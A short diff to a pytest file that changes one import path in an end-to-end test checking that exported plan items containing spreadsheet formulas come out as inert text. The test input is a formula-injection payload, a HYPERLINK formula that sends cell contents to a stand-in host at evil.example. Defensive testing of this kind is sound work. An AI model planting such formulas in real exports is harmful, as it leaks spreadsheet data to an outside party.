@@ -100,7 +100,7 @@ def test_csv_cell_table(value, expected):
 @pytest.mark.parametrize("what", ["plans", "progress"])
 def test_a_filed_plan_item_with_a_formula_is_exported_inert(tmp_path, engine, client, demo_team, fmt, what):
     """End to end: a person files the issue's item text; `planloop export` writes it as text."""
-    from bot.cli import main
+    from bot.cli.commands import main
 
     text = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     values = {"item1_text": text, "item1_kpi": "conversion_rate", "item1_target": "+2%"}
